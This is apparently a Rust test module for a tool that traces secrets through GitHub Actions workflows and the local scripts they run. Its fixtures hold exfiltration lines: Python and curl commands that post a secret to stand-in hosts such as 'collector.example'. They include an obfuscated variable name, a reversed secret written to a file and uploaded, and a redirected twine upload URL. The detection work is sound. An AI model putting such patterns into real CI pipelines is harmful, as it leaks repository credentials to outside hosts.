//! Programs that are put back against what following anew gives.

use super::tests::{analysed, count};
use super::*;
use crate::flow::LocalFiles;

/// A repository with a program, and with what that runs.
struct Program(&'static str);

impl LocalFiles for Program {
    fn read(&self, path: &str) -> LocalFile {
        match path {
            "tool.py" => LocalFile::Text(self.0.into()),
            "inner.sh" => LocalFile::Text("curl \"https://$INNER/\" -d \"$KEY\"\n".into()),
            _ => LocalFile::Absent,
        }
    }
}

/// A workflow that runs it, with more variables than a secret.
fn caller(variables: &str) -> String {
    format!(
        "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: python tool.py\n        env:\n          KEY: ${{{{ secrets.KEY }}}}\n{variables}"
    )
}

fn same_as_anew(known: &Arc<KnownSteps>, text: &str, local: &Program) -> String {
    let anew = analysed(text, None, local);
    for _ in 0..2 {
        assert_eq!(analysed(text, Some(known), local), anew, "{text}");
    }
    anew
}

const SENDS: &str =
    "import os, requests\nrequests.post('https://' + os.environ['HOST'] + '/', data=os.environ['KEY'])\n";

/// Each of these callers is a step of its own, for what stands in it; the program is one.
#[test]
fn a_program_is_followed_once_for_steps_that_run_it_alike() {
    let known = KnownSteps::new();
    for (at, beside) in ["", "        id: one\n", "        id: two\n"].into_iter().enumerate() {
        let text = format!("{}{beside}", caller("          HOST: collector.example\n"));
        let anew = same_as_anew(&known, &text, &Program(SENDS));
        assert!(anew.contains("collector.example"), "{anew}");
        assert_eq!(count(&known), 1 + at + 1, "the steps so far, and one program");
    }
}

/// Also one that the program's text does not name: it is put together, or belongs to a tool that it runs.
#[test]
fn another_environment_makes_another_program() {
    for (program, name) in [
        (SENDS, "HOST"),
        (
            "import os, requests\nrequests.post('https://' + os.environ['HO' + 'ST'] + '/', data=os.environ['KEY'])\n",
            "HOST",
        ),
        (
            "import os\nos.system(os.environ['COMMAND'])\n",
            "COMMAND: curl -d \"$KEY\" \"https://$HOST/\"\n          HOST",
        ),
    ] {
        let known = KnownSteps::new();
        for host in ["one.example", "two.example"] {
            let anew =
                same_as_anew(&known, &caller(&format!("          {name}: {host}\n")), &Program(program));
            assert!(anew.contains(host), "{program} {anew}");
        }
        assert_eq!(count(&known), 4);
    }
    let known = KnownSteps::new();
    let local = Program("import subprocess\nsubprocess.run(['twine', 'upload', 'dist/*'])\n");
    let usual = caller("          TWINE_PASSWORD: ${{ secrets.KEY }}\n");
    assert!(!same_as_anew(&known, &usual, &local).contains("collector.example"));
    let elsewhere = caller(
        "          TWINE_PASSWORD: ${{ secrets.KEY }}\n          TWINE_REPOSITORY_URL: https://collector.example/\n",
    );
    assert!(same_as_anew(&known, &elsewhere, &local).contains("collector.example"));
}

#[test]
fn a_variable_of_what_it_runs_is_seen_too() {
    let known = KnownSteps::new();
    let local = Program("import subprocess\nsubprocess.run(['bash', 'inner.sh'])\n");
    for host in ["one.example", "two.example"] {
        let anew = same_as_anew(&known, &caller(&format!("          INNER: {host}\n")), &local);
        assert!(anew.contains(host), "{anew}");
    }
}

/// What it wrote, printed and set is there for the steps after it, wherever it is put back.
#[test]
fn what_a_program_leaves_is_put_back() {
    let known = KnownSteps::new();
    let local = Program(
        "import os\nopen('out.txt', 'w').write(os.environ['KEY'][::-1])\nprint('collector.example')\n",
    );
    for beside in ["", "          UNSEEN: one\n", "          UNSEEN: two\n"] {
        let text =
            caller(beside).replace("python tool.py", "echo \"TO=$(python tool.py)\" >> \"$GITHUB_ENV\"");
        let after = "      - run: curl -T out.txt \"https://$TO/\"\n";
        let anew = same_as_anew(&known, &format!("{text}{after}"), &local);
        assert!(anew.contains("collector.example"), "{anew}");
        assert!(anew.contains("MaskEvasion") && anew.contains("host: Some"), "{anew}");
    }
}
